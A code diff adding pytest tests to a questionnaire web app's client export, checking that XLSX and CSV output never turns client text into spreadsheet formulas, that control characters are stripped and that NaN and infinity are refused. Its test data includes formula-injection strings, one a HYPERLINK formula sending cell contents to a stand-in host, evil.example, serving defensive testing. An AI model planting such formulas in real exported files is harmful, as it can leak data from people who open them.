@@ -536,14 +536,159 @@ def test_export_reads_back_in_the_batch_importer(client, app, tmp_path, suffix):
     out = tmp_path / f"clients{suffix}"
     q = app.extensions["smaudit"].questionnaire
     database = tmp_path / "data" / "submissions.sqlite3"
-    assert export_submissions(database, q, out) == 1
+    assert export_submissions(database, q, out).written == 1
     parsed = parse_rows(read_table(out), q, "nl")
     assert len(parsed.rows) == 1
     row = parsed.rows[0]
     assert not row.problems, row.problems
     assert row.company["name"] == "Kaasmakerij Hoeve" and row.company["size"] == "10-49"
     assert row.answers.values == stored(app, done).answers
-    assert export_submissions(database, q, out, include_all=True) == 2
+    assert export_submissions(database, q, out, include_all=True).written == 2
+
+
+HOSTILE = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+31 6 1234", "-2+3",
+           "@SUM(A1)", "\tindented", "\r=cr"]
+
+
+def _cells(out: Path) -> list[list[Any]]:
+    """The data rows of an exported client list (after its two header rows), as written."""
+    if out.suffix == ".csv":
+        import csv
+
+        text = out.read_bytes().decode("utf-8-sig")  # no newline translation: CR stays CR
+        return list(csv.reader(io.StringIO(text), delimiter=";"))[2:]
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(out).worksheets[0]
+    return [[c for c in row] for row in sheet.iter_rows(min_row=3)]
+
+
+def test_export_never_writes_client_text_as_a_formula(client, app, tmp_path):
+    from audit.web.export import export_submissions
+
+    store = app.extensions["smaudit"].store
+    q = app.extensions["smaudit"].questionnaire
+    for text in HOSTILE:
+        token = start(client, "Firma " + text.strip())
+        sub = stored(app, token)
+        sub.company["name"] = text  # the form strips; stored text may start with anything
+        sub.answers["remarks"] = text
+        store.save(sub)
+    database = tmp_path / "data" / "submissions.sqlite3"
+    ids = ["name"] + [qu.id for qu in q.questions]
+    xlsx = tmp_path / "out.xlsx"
+    assert export_submissions(database, q, xlsx, include_all=True).written == len(HOSTILE)
+    from audit.answers import COMPANY_FIELDS
+
+    name_col = COMPANY_FIELDS.index("name")
+    remarks_col = len(COMPANY_FIELDS) + [qu.id for qu in q.questions].index("remarks")
+    rows = _cells(xlsx)
+    assert len(rows) == len(HOSTILE) and ids
+    # A text answer is stored stripped ("\tindented" -> "indented"); company fields as given.
+    for row, text in zip(rows, HOSTILE, strict=True):
+        for cell, expected in ((row[name_col], text), (row[remarks_col], text.strip())):
+            assert cell.data_type == "s", (text, cell.data_type)  # text, never a formula ("f")
+            assert cell.value == expected.replace("\r", "\n")  # XML reads CR back as LF
+    assert b"<f>" not in _zip_sheet(xlsx)
+    csv_out = tmp_path / "out.csv"
+    export_submissions(database, q, csv_out, include_all=True)
+
+    def prefixed(v: str) -> str:
+        return "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v
+
+    for row, text in zip(_cells(csv_out), HOSTILE, strict=True):
+        assert row[name_col] == "'" + text and row[remarks_col] == prefixed(text.strip())
+    assert [r[remarks_col] for r in _cells(csv_out)][:2] == ["'=1+1", "'" + HOSTILE[1]]
+
+
+def _zip_sheet(xlsx: Path) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(xlsx) as z:
+        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_export_strips_control_characters_and_goes_on_past_a_bad_submission(client, app, tmp_path):
+    from audit.web.export import export_submissions
+
+    store = app.extensions["smaudit"].store
+    q = app.extensions["smaudit"].questionnaire
+    good = start(client, "Goed Bezig")
+    noisy = start(client, "Bel en Esc")
+    broken = start(client, "Kapot Record")
+    sub = stored(app, noisy)
+    sub.company["name"] = "Bel\x07 en Esc\x1b"
+    sub.answers["remarks"] = "nul\x00 teken"
+    store.save(sub)
+    sub = stored(app, broken)
+    sub.company = ["not", "a", "mapping"]  # as an old or damaged row might hold
+    store.save(sub)
+    database = tmp_path / "data" / "submissions.sqlite3"
+    for suffix in (".xlsx", ".csv"):
+        out = tmp_path / f"all{suffix}"
+        result = export_submissions(database, q, out, include_all=True)
+        assert result.written == 2 and result.skipped == 1
+        text = "\n".join(result.problems)
+        assert "column name: 2 control character(s) removed" in text
+        assert "column remarks: 1 control character(s) removed" in text
+        assert "skipped" in text
+        names = [str(row[0].value if suffix == ".xlsx" else row[0]) for row in _cells(out)]
+        assert names == ["Goed Bezig", "Bel en Esc"]
+    assert stored(app, good) is not None
+
+
+def test_export_command_reports_skipped_submissions(client, app, tmp_path):
+    from click.testing import CliRunner
+
+    from audit.cli import cli
+
+    start(client, "Goed Bezig")
+    sub = stored(app, start(client, "Kapot"))
+    sub.company = ["damaged"]
+    app.extensions["smaudit"].store.save(sub)
+    out = tmp_path / "x.csv"
+    result = CliRunner().invoke(cli, ["export", "--data", str(tmp_path / "data"), "-o", str(out), "--all",
+                                      "--questionnaire", str(FIXTURES / "mini.yaml")])
+    assert result.exit_code == 1
+    assert "skipped" in result.output and "1 submission(s) written" in result.output
+    assert "Goed Bezig" in out.read_text(encoding="utf-8-sig")
+
+
+def test_control_characters_are_refused_at_the_form(client, app):
+    token = start(client)
+    response = post_page(client, token, 2, {"q_people": "2", "q_remarks": "hallo\x1b[31m",
+                                            "shown": "people hours guidelines remarks"})
+    assert response.status_code == 400
+    assert "invisible control character" in response.data.decode()
+    assert "remarks" not in stored(app, token).answers
+    page = client.get("/start/en")
+    response = client.post("/start/en", data={"csrf_token": csrf(page.data), "name": "Bel\x07"})
+    assert response.status_code == 400 and "invisible control character" in response.data.decode()
+    # Line breaks and tabs in a remark are ordinary text.
+    response = post_page(client, token, 2, {"q_people": "2", "q_remarks": "regel 1\r\nregel\t2",
+                                            "shown": "people hours guidelines remarks"})
+    assert response.status_code == 303
+    assert stored(app, token).answers["remarks"] == "regel 1\r\nregel\t2"
+
+
+@pytest.mark.parametrize("raw", ["NaN", "nan", "inf", "-Infinity", "1e999", float("inf")])
+def test_nan_and_infinity_are_not_numbers(raw, mini):
+    from audit.answers import AnswerError, normalise
+
+    with pytest.raises(AnswerError) as caught:
+        normalise(mini.question("people"), raw)
+    assert caught.value.code == "not_number"
+    with pytest.raises(AnswerError):
+        normalise(mini.question("hours"), raw)  # the 1-5 scale too
+
+
+def test_nan_in_a_number_field_is_a_form_error(client, app):
+    token = start(client)
+    for raw in ("NaN", "inf", "1e999"):
+        response = post_page(client, token, 2, {"q_people": raw, "shown": "people hours guidelines remarks"})
+        assert response.status_code == 400
+        assert "Please enter a number" in response.data.decode()
+    assert "people" not in stored(app, token).answers
 
 
 def test_export_command_errors(tmp_path):
